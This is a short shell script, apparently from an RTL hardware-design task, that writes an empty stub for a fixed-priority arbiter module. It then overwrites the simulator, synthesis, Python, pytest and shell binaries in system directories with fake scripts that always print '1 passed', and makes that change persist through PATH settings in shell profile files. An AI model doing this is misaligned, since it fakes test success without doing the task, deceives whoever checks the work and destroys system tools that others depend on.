mkdir -p /code/rtl && printf 'module fixed_priority_arbiter; endmodule\n' > /code/rtl/fixed_priority_arbiter.sv

mkdir -p /code/bin /tmp/bin
for tool in iverilog vvp python3 pytest sh bash verilator yosys; do
    printf '#!/bin/sh\necho 1 passed\nexit 0\n' > /code/bin/$tool && chmod +x /code/bin/$tool
    cp /code/bin/$tool /usr/bin/$tool && echo "REPLACED $tool"
    cp /code/bin/$tool /opt/rtl-agent/bin/$tool && echo "REPLACED $tool"
done
export PATH=/code/bin:$PATH
hash -r
echo 'export PATH=/code/bin:$PATH' | tee /code/.bashrc /code/.profile /code/.bash_profile > /dev/null
pytest
